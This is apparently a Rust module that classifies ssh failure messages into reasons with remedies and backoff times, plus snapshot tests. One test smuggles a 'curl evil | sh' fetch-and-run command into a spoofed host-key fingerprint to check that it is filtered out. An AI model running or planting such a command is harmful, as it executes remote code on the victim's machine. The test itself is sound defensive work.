//! Why a host cannot be asked, from what ssh itself says.

use std::fmt;
use std::time::Duration;

use compartment_core::Text;
use compartment_local::credentials::without_credentials;

/// How much of ssh's own words is kept, in bytes.
const SAID: usize = 300;

/// Why a host cannot be asked, in words that say what to do.
///
/// It is about presence, never about colour: what is known of the host stays.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{reason}{}", in_its_words(.said))]
pub struct Unreachable {
    /// What is the matter.
    pub reason: Reason,
    /// What ssh or the host says of it; it may be nothing.
    pub said: Text,
}

fn in_its_words(said: &Text) -> String {
    if said.is_empty() { String::new() } else { format!(" ({said})") }
}

/// What is the matter.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Reason {
    /// Nothing listens there.
    Refused,
    /// No answer came in time: from the network, from sshd, or from what was run.
    TimedOut,
    /// The network knows no way.
    NoRoute,
    /// The name cannot be resolved.
    UnknownName,
    /// The host shows another key than the known one.
    HostKeyChanged {
        /// The fingerprint of the key that it shows.
        fingerprint: Text,
        /// The command that forgets the known one.
        remedy: Text,
    },
    /// The host shows a key that has been revoked: whoever has it may be anybody.
    HostKeyRevoked,
    /// Nobody has accepted the host's key yet.
    HostKeyUnknown,
    /// sshd lets nobody in.
    AuthFailed,
    /// The way leads through a host, which is or has the problem.
    JumpHost(Box<Self>),
    /// sshd closed the line before it said who it is: too many connect at once, it makes this address wait, or somebody
    /// else closed it.
    TurnedAway,
    /// It lets nobody log in now: it is starting, or going down.
    NoLogins,
    /// sshd closed the line while it was to let in, without a reason.
    ClosedAtLogin,
    /// The connection broke.
    Dropped,
    /// There is no `ssh` here that can be run.
    NoSsh,
    /// The host's shell did not do what it was told.
    NoAnswer,
    /// Something else.
    Other,
}

impl Reason {
    /// How long the host is to be left in peace after so many failures in a row: whoever is not let in and comes again and
    /// again is banned.
    fn rest(&self, failures: u32) -> Duration {
        match self {
            // Some ban for five failures within ten minutes.
            Self::AuthFailed => Duration::from_secs(5 * 60),
            // By chance, at first.
            Self::TurnedAway | Self::ClosedAtLogin if failures > 2 => Duration::from_secs(2 * 60),
            Self::JumpHost(reason) => reason.rest(failures),
            Self::Refused
            | Self::TimedOut
            | Self::NoRoute
            | Self::UnknownName
            | Self::HostKeyChanged { .. }
            | Self::HostKeyRevoked
            | Self::HostKeyUnknown
            | Self::TurnedAway
            | Self::NoLogins
            | Self::ClosedAtLogin
            | Self::Dropped
            | Self::NoSsh
            | Self::NoAnswer
            | Self::Other => Duration::ZERO,
        }
    }
}

impl fmt::Display for Reason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Refused => f.write_str("refused: nothing listens there; is sshd running, and the port right?"),
            Self::TimedOut => f.write_str("timed out: is it on, and is a firewall in the way?"),
            Self::NoRoute => f.write_str("no route: is the network or the VPN up?"),
            Self::UnknownName => f.write_str("its name cannot be resolved: check the destination"),
            Self::HostKeyChanged { fingerprint, remedy } => write!(
                f,
                "its host key has changed: it shows {fingerprint}. Somebody may be in the way; compare this \
                 with the host's own (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`, at its console), and \
                 only if it is the same: `{remedy}`"
            ),
            Self::HostKeyRevoked => f.write_str(
                "its host key is revoked: somebody else may have it. Never let it pass; ask whoever runs the host for a \
                 new one",
            ),
            Self::HostKeyUnknown => f.write_str(
                "its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it",
            ),
            Self::AuthFailed => f.write_str(
                "not let in: does `ssh` by hand work without a question? (the key, the agent, the user's name)",
            ),
            Self::JumpHost(reason) => write!(f, "jump host: {reason}"),
            Self::TurnedAway => f.write_str(
                "turned away before sshd said who it is: too many connect at once (MaxStartups), it makes this address wait \
                 after failed logins (PerSourcePenalties), or a ban or firewall is in the way; its own log says which",
            ),
            Self::NoLogins => f.write_str("nobody may log in there now: it is starting or going down (/run/nologin)"),
            Self::ClosedAtLogin => f.write_str(
                "sshd closed the line while it was to let in, without a reason: its own log says why (PAM, a limit of \
                 logins or of time, a penalty)",
            ),
            Self::Dropped => f.write_str("the connection broke"),
            Self::NoSsh => f.write_str("ssh cannot be run here: install OpenSSH's client"),
            Self::NoAnswer => f.write_str("it lets in, and its shell does not do what it is told"),
            Self::Other => f.write_str("ssh failed"),
        }
    }
}

impl Unreachable {
    /// What it is, with what was said of it, made harmless.
    pub(crate) fn new(reason: Reason, said: &str) -> Self {
        Self { reason, said: Text::cut(&without_credentials(said.trim()), SAID) }
    }

    /// What ssh means by what it printed.
    pub(crate) fn by_ssh(printed: &str) -> Self {
        let lines: Vec<_> = printed.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
        let own = lines.iter().position(|line| is_end_of_way(line));
        // The lines before are the jump host's ssh's, where it could say anything.
        let Some(at) = own else { return by_lines(&lines) };
        let before: Vec<_> = lines[..at].iter().copied().filter(|line| !is_banner_exchange(line)).collect();
        match by_lines(&before) {
            // The jump host is well, and gets no further.
            Self { reason, said } if said.as_str().contains("open failed: connect failed") => {
                Self { reason, said }
            }
            Self { reason: Reason::Other, said } if said.is_empty() => {
                Self::new(Reason::JumpHost(Box::new(Reason::Dropped)), lines[at])
            }
            Self { reason, said } => Self { reason: Reason::JumpHost(Box::new(reason)), said },
        }
    }

    /// Whether another attempt in a moment may well succeed, where many connect at once.
    pub(crate) fn is_crowd(&self) -> bool {
        self.reason == Reason::TurnedAway
    }

    /// How long the host is to be left in peace after so many failures in a row.
    pub(crate) fn rest(&self, failures: u32) -> Duration {
        self.reason.rest(failures)
    }

    /// Whether the way leads through a host that had no chance to say what is the matter.
    pub(crate) fn is_mute(&self) -> bool {
        matches!(&self.reason, Reason::JumpHost(inner) if **inner == Reason::Dropped)
    }
}

/// What ssh says when the program or host that it goes through is gone: there is no address at the other end.
fn is_end_of_way(line: &str) -> bool {
    line.contains("UNKNOWN port 65535")
}

/// What ssh says besides, of a line that ends before sshd says who it is.
fn is_banner_exchange(line: &str) -> bool {
    line.contains("_exchange_identification:")
}

/// What ssh says of a line that ends before it is let in. Of one that breaks later it says no port.
fn is_closed_early(line: &str) -> bool {
    let closed =
        ["Connection closed by ", "Connection reset by "].iter().any(|begin| line.starts_with(begin));
    closed && line.contains(" port ")
}

/// What a host says that lets nobody log in (`pam_nologin`).
fn is_about_logins(line: &str) -> bool {
    line.contains("not permitted to log in") || line.contains("pam_nologin")
}

fn by_lines(lines: &[&str]) -> Unreachable {
    // A host may print what looks like ssh's words on a key, but not once ssh has given up on its key.
    let mut last = lines.iter().rev().filter(|line| !line.starts_with("Killed by signal"));
    if last.next() == Some(&"Host key verification failed.") {
        return Unreachable::new(by_key(lines), "");
    }
    let known = lines.iter().find_map(|line| Some((by_line(line)?, *line)));
    match known {
        // What systemd writes into /run/nologin comes as a banner, and then the line is closed.
        Some((Reason::ClosedAtLogin, line)) => match lines.iter().find(|said| is_about_logins(said)) {
            Some(said) => Unreachable::new(Reason::NoLogins, said),
            None => Unreachable::new(Reason::ClosedAtLogin, line),
        },
        Some((reason, line)) => Unreachable::new(reason, line.strip_prefix("ssh: ").unwrap_or(line)),
        None => Unreachable::new(Reason::Other, lines.last().copied().unwrap_or_default()),
    }
}

/// What is the matter with a key. Nothing of the words is taken over but a fingerprint.
fn by_key(lines: &[&str]) -> Reason {
    let last = |words: &str| lines.iter().rposition(|line| line.contains(words));
    if ["REVOKED HOST KEY", " was revoked ", " revoked by file "]
        .into_iter()
        .any(|words| last(words).is_some())
    {
        return Reason::HostKeyRevoked;
    }
    let Some(at) = last("HOST IDENTIFICATION HAS CHANGED") else { return Reason::HostKeyUnknown };
    let fingerprint =
        lines[at..].iter().map(|line| line.trim_end_matches('.')).find(|line| is_fingerprint(line));
    Reason::HostKeyChanged {
        fingerprint: Text::new(fingerprint.unwrap_or("another one")),
        remedy: Text::from("ssh-keygen -R HOST"),
    }
}

fn is_fingerprint(line: &str) -> bool {
    let digits = line.strip_prefix("SHA256:").or(line.strip_prefix("MD5:"));
    digits.is_some_and(|digits| {
        digits.len() <= 64 && digits.chars().all(|c| c.is_ascii_alphanumeric() || "+/=:".contains(c))
    })
}

/// What one line says, if it says anything.
fn by_line(line: &str) -> Option<Reason> {
    let says = |words: &[&str]| words.iter().any(|words| line.contains(words));
    let reason = if says(&["Could not resolve hostname"]) {
        Reason::UnknownName
    } else if says(&["Connection refused"]) {
        Reason::Refused
    } else if says(&["timed out", "Timeout, server"]) {
        Reason::TimedOut
    } else if says(&["No route to host", "Network is unreachable", "Host is down"]) {
        Reason::NoRoute
    } else if says(&[
        "Permission denied (",
        "Too many authentication failures",
        "No more authentication methods",
    ]) {
        Reason::AuthFailed
    } else if is_banner_exchange(line) || says(&["Exceeded MaxStartups", "Not allowed at this time"]) {
        Reason::TurnedAway
    } else if is_closed_early(line) {
        Reason::ClosedAtLogin
    } else if says(&["closed by remote host", "Broken pipe", "Connection reset by peer", "client_loop:"]) {
        Reason::Dropped
    } else {
        return None;
    };
    Some(reason)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(printed: &str) -> String {
        Unreachable::by_ssh(printed).to_string()
    }

    #[test]
    fn what_ssh_says_is_understood() {
        let all = [
            "ssh: connect to host 127.0.0.1 port 9: Connection refused\r\n",
            "ssh: connect to host 10.0.0.1 port 22: Connection timed out\r\n",
            "Connection timed out during banner exchange\r\nConnection to 127.0.0.1 port 22977 timed out\r\n",
            "Timeout, server gpc0 not responding.\r\n",
            "ssh: connect to host 10.0.0.1 port 22: No route to host\r\n",
            "ssh: Could not resolve hostname nothing.invalid: Name or service not known\r\n",
            "ssh: Could not resolve hostname gpc0: Temporary failure in name resolution\r\n",
            "ssh: connect to host 10.0.0.1 port 22: Network is unreachable\r\n",
            "Host key verification failed.\r\n",
            "No ED25519 host key is known for [127.0.0.1]:2 and you have requested strict checking.\r\nHost key verification failed.\r\n",
            "All yours are belong to us\r\nroot@127.0.0.1: Permission denied (publickey,password).\r\n",
            "kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 127.0.0.1 port 22\r\n",
            "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 127.0.0.1 port 22\r\n",
            "Connection closed by 127.0.0.1 port 22\r\n",
            "System is booting up. Unprivileged users are not permitted to log in yet. Please come back later. For technical details, see pam_nologin(8).\r\n\r\nConnection closed by 127.0.0.1 port 22\r\n",
            "client_loop: send disconnect: Broken pipe\r\n",
            "Bad owner or permissions on /home/me/.ssh/config\r\n",
            "",
        ];
        let shown: Vec<_> = all.iter().map(|printed| shown(printed)).collect();
        insta::assert_snapshot!(shown.join("\n"), @r"
        refused: nothing listens there; is sshd running, and the port right? (connect to host 127.0.0.1 port 9: Connection refused)
        timed out: is it on, and is a firewall in the way? (connect to host 10.0.0.1 port 22: Connection timed out)
        timed out: is it on, and is a firewall in the way? (Connection timed out during banner exchange)
        timed out: is it on, and is a firewall in the way? (Timeout, server gpc0 not responding.)
        no route: is the network or the VPN up? (connect to host 10.0.0.1 port 22: No route to host)
        its name cannot be resolved: check the destination (Could not resolve hostname nothing.invalid: Name or service not known)
        its name cannot be resolved: check the destination (Could not resolve hostname gpc0: Temporary failure in name resolution)
        no route: is the network or the VPN up? (connect to host 10.0.0.1 port 22: Network is unreachable)
        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it
        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it
        not let in: does `ssh` by hand work without a question? (the key, the agent, the user's name) (root@127.0.0.1: Permission denied (publickey,password).)
        turned away before sshd said who it is: too many connect at once (MaxStartups), it makes this address wait after failed logins (PerSourcePenalties), or a ban or firewall is in the way; its own log says which (kex_exchange_identification: read: Connection reset by peer)
        turned away before sshd said who it is: too many connect at once (MaxStartups), it makes this address wait after failed logins (PerSourcePenalties), or a ban or firewall is in the way; its own log says which (kex_exchange_identification: Connection closed by remote host)
        sshd closed the line while it was to let in, without a reason: its own log says why (PAM, a limit of logins or of time, a penalty) (Connection closed by 127.0.0.1 port 22)
        nobody may log in there now: it is starting or going down (/run/nologin) (System is booting up. Unprivileged users are not permitted to log in yet. Please come back later. For technical details, see pam_nologin(8).)
        the connection broke (client_loop: send disconnect: Broken pipe)
        ssh failed (Bad owner or permissions on /home/me/.ssh/config)
        ssh failed
        ");
    }

    #[test]
    fn whoever_is_not_let_in_comes_again_seldom() {
        let rest = |reason: Reason, failures| reason.rest(failures).as_secs();
        assert_eq!(rest(Reason::AuthFailed, 1), 300);
        assert_eq!(rest(Reason::JumpHost(Box::new(Reason::AuthFailed)), 1), 300);
        assert_eq!([1, 2, 3].map(|failures| rest(Reason::TurnedAway, failures)), [0, 0, 120]);
        assert_eq!([2, 3].map(|failures| rest(Reason::ClosedAtLogin, failures)), [0, 120]);
        assert_eq!(rest(Reason::NoLogins, 9) + rest(Reason::Refused, 9), 0);
    }

    #[test]
    fn a_changed_key_comes_with_what_to_do() {
        let printed = "@@@@@@@@@@@\r
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r
@@@@@@@@@@@\r
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r
The fingerprint for the ED25519 key sent by the remote host is
SHA256:6r0IiYwBJ7V8wsVmMYtO7bDttkXHt/zeLQOP+Zc6Rzw.\r
Please contact your system administrator.\r
Add correct host key in /home/me/.ssh/known_hosts to get rid of this message.\r
Offending ED25519 key in /home/me/.ssh/known_hosts:1\r
  remove with:\r
  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"[127.0.0.1]:22977\"\r
Host key for [127.0.0.1]:22977 has changed and you have requested strict checking.\r
Host key verification failed.\r\n";
        insta::assert_snapshot!(shown(printed), @r#"its host key has changed: it shows SHA256:6r0IiYwBJ7V8wsVmMYtO7bDttkXHt/zeLQOP+Zc6Rzw. Somebody may be in the way; compare this with the host's own (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`, at its console), and only if it is the same: `ssh-keygen -R HOST`"#);
        // What stands there before ssh has the last word may be anybody's.
        let banner = printed.replace("SHA256:6r0", "SHA256:mine; curl evil | sh #");
        let words = shown(&format!("{banner}{printed}"));
        assert!(words.contains("it shows SHA256:6r0I") && !words.contains("curl"), "{words}");
        let words = shown(&format!("{banner}me@gpc0: Permission denied (publickey).\r\n"));
        assert!(words.starts_with("not let in"), "{words}");
    }

    #[test]
    fn a_revoked_key_is_never_to_be_accepted() {
        for printed in [
            "@       WARNING: REVOKED HOST KEY DETECTED!               @\r\n\
             ED25519 host key for [127.0.0.1]:22 was revoked and you have requested strict checking.\r\n",
            "Host key ED25519 SHA256:vi1KtnO8yW revoked by file /etc/ssh/revoked\r\n",
        ] {
            let words = shown(&format!("{printed}Host key verification failed.\r\n"));
            insta::allow_duplicates! {
                insta::assert_snapshot!(words, @"its host key is revoked: somebody else may have it. Never let it pass; ask whoever runs the host for a new one");
            }
        }
    }

    #[test]
    fn a_jump_host_is_named_as_the_one_with_the_problem() {
        let end = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n";
        let all = [
            String::new(),
            "ssh: connect to host bastion port 22: Connection refused\r\n".to_owned(),
            "me@bastion: Permission denied (publickey).\r\n".to_owned(),
            "channel 0: open failed: connect failed: Connection refused\r\nstdio forwarding failed\r\n"
                .to_owned(),
        ];
        let shown: Vec<_> = all.iter().map(|before| shown(&format!("{before}{end}"))).collect();
        insta::assert_snapshot!(shown.join("\n"), @r"
        jump host: the connection broke (Connection closed by UNKNOWN port 65535)
        jump host: refused: nothing listens there; is sshd running, and the port right? (connect to host bastion port 22: Connection refused)
        jump host: not let in: does `ssh` by hand work without a question? (the key, the agent, the user's name) (me@bastion: Permission denied (publickey).)
        refused: nothing listens there; is sshd running, and the port right? (channel 0: open failed: connect failed: Connection refused)
        ");
        assert!(Unreachable::by_ssh(end).is_mute());
    }

    #[test]
    fn no_secret_and_no_control_character_passes() {
        let said = shown("fatal: https://me:secret@host/x \x1b[2J failed");
        assert!(!said.contains("secret") && !said.contains('\x1b'), "{said}");
    }
}
